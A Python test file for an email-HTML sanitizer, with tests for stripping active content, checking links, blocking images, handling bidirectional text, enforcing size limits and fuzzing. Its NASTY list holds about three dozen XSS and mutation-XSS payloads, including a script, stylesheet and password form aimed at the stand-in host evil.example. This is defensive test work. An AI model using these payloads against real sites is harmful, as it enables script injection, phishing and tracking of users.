"""A mail's HTML in a page of ours: words stay, whatever acts, loads or misleads goes."""

from __future__ import annotations

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from review.mail_html import MAX_CHARACTERS, MAX_TAGS, SafeMail, safe_mail_html

ALLOWED = {"href", "rel", "target", "colspan", "rowspan", "start"}


class Seen(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


def cleaned(html: str) -> SafeMail:
    found = safe_mail_html(html)
    assert found is not None
    return found


def look(html: str) -> Seen:
    seen = Seen()
    seen.feed(html)
    seen.close()
    return seen


NASTY = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.gif" width=1>',
    '<img src="cid:logo@here" alt="ตรา">',
    "<svg><script>alert(1)</script></svg>",
    '<svg onload="alert(1)"><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror=alert(1)&gt;'>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt&#58;alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="/cases/1/approve">x</a>',
    '<a href="//evil.example">x</a>',
    '<form action="https://evil.example"><input name=password><button>ok</button></form>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf"><applet code=x></applet>',
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    '<div style="background:url(https://evil.example/p.gif);position:fixed">x</div>',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<p id="content" class="menu" name="form_token">x</p>',
    '<table background="https://evil.example/b.png"><tr><td onclick=alert(1)>x</table>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<a href='https://a.example' onmouseover=alert(1) style=x target=_top rel=opener>x</a>",
    "<video poster=https://evil.example/p src=x autoplay></video><audio src=x></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)",
    '<a href="https://a.example/?q=\x00\'&quot;><img src=x onerror=alert(1)>">x</a>',
]


@pytest.mark.parametrize("html", NASTY)
def test_nothing_active_passes(html: str) -> None:
    safe = cleaned(f"<p>ก่อน</p>{html}<p>หลัง</p>")
    seen = look(safe.html)
    assert not seen.tags & {
        *("script", "style", "img", "svg", "math", "form", "input", "button", "iframe", "object"),
        *("embed", "link", "meta", "base", "video", "audio", "template", "textarea", "details"),
    }
    assert {name for name, _ in seen.attributes} <= ALLOWED
    for name, value in seen.attributes:
        if name == "href":
            assert value.startswith(("http://", "https://", "mailto:"))
        if name == "rel":
            assert value == "noopener noreferrer nofollow"
    assert "ก่อน" in safe.html


def test_words_tables_and_lists_stay() -> None:
    safe = cleaned(
        "<html><head><title>x</title></head><body><h2>เรื่อง</h2><table><tr><td colspan=2>ตาราง</td>"
        "</tr></table><ol start=3><li>ข้อสาม</ol><b>หนา</b> 1 &lt; 2 &amp; 3</body></html>"
    )
    assert "<h2>เรื่อง</h2>" in safe.html and '<td colspan="2">ตาราง</td>' in safe.html
    assert '<ol start="3">' in safe.html and "1 &lt; 2 &amp; 3" in safe.html
    assert safe.blocked_pictures == 0 and "<title>" not in safe.html


def test_a_link_says_where_it_leads() -> None:
    safe = cleaned('<a href="https://evil.example/login?a=1&amp;b=2">https://bank.example</a>')
    assert "https://bank.example</a> (https://evil.example/login?a=1&amp;b=2)" in safe.html
    assert 'rel="noopener noreferrer nofollow"' in safe.html


@pytest.mark.parametrize(
    "html",
    [
        '<a href="https://office.example/">office.example</a>',
        '<a href="mailto:mali@example.org">mali@example.org</a>',
        '<a href="http://www.example.org/a">http://www.example.org/a</a>',
    ],
)
def test_a_link_that_says_so_itself_is_not_repeated(html: str) -> None:
    assert "(" not in cleaned(html).html


def test_an_address_cannot_be_turned_round() -> None:
    safe = cleaned('<a href="https://evil.example/\u202ehtoob">\u2066ดู\u2069\u202e</a>')
    assert not {"\u202e", "\u2066", "\u2069"} & set(safe.html)


def test_pictures_are_counted_and_their_words_kept() -> None:
    safe = cleaned(
        '<img src="https://a.example/1.png" alt="ตราหน่วยงาน"><img src="cid:2"><img alt="&lt;b&gt;">'
    )
    assert safe.blocked_pictures == 3
    assert "[ตราหน่วยงาน]" in safe.html and "[&lt;b&gt;]" in safe.html


@pytest.mark.parametrize(
    "html", ["x" * (MAX_CHARACTERS + 1), "<div>" * (MAX_TAGS + 1), "<" * (MAX_TAGS + 1)]
)
def test_what_is_too_large_or_tangled_is_left_to_the_text(html: str) -> None:
    assert safe_mail_html(html) is None


@pytest.mark.parametrize("piece", ["<div>", "<b><p>", "<table><tr><td>", "<a href=https://x><p>"])
def test_the_deepest_tangle_taken_costs_little(piece: str) -> None:
    begun = time.process_time()
    assert safe_mail_html(piece * (MAX_TAGS // piece.count("<"))) is not None
    assert time.process_time() - begun < 5


@pytest.mark.parametrize(
    "html", ["", "\x00", "\ud800<b>\udfff", "<", "&#0;&#xD800;&#x110000;", "]]>"]
)
def test_odd_signs_raise_nothing(html: str) -> None:
    cleaned(html).html.encode()


_PIECES = st.sampled_from(
    [*NASTY, "<a href='https://a.example'>", "</a>", "<b>", "</b>", "ก", "&lt;script&gt;", "'\"`"]
)


@settings(max_examples=150, deadline=None)
@given(st.lists(st.one_of(_PIECES, st.text(max_size=8)), max_size=8).map("".join))
def test_whatever_is_joined_stays_harmless_and_cleaning_again_changes_no_link(html: str) -> None:
    safe = safe_mail_html(html)
    assert safe is not None
    seen = look(safe.html)
    assert {name for name, _ in seen.attributes} <= ALLOWED
    assert not seen.tags & {"script", "style", "img", "svg", "iframe", "form"}
